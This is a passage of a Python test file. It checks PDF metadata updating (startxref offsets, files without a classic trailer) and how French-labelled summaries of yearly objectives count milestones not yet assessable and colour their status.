    assert int(re.search(rb"startxref\n(\d+)\n%%EOF\n$", updated).group(1)) == updated.rindex(b"xref\n5 1")  # type: ignore[union-attr]
    assert document_info(b"%PDF-1.5 no classic trailer", title="x") == b"%PDF-1.5 no classic trailer"


def test_a_summary_counts_apart_what_cannot_be_judged_yet() -> None:
    """« 0 sur 14 atteints » over 14 milestones not yet due read as a failure (its box in the « non atteint » colour)."""
    from views.objective_tables import summary_status

    waiting = summary_status(["à renseigner"] * 14, 2018)
    assert waiting == "Objectifs 2018 : aucun encore évaluable (14 à renseigner)"
    assert status_colour(waiting) not in (status_colour("non atteint"), status_colour("en retard"))
    mixed = summary_status(["atteint", "non atteint", "à renseigner", "pas de données"], 2018)
    assert mixed == "Objectifs 2018 : 1 sur 2 atteints (1 à renseigner, 1 sans données)"
    assert status_colour(mixed) == status_colour("Objectifs 2018 : 1 sur 2 atteints")
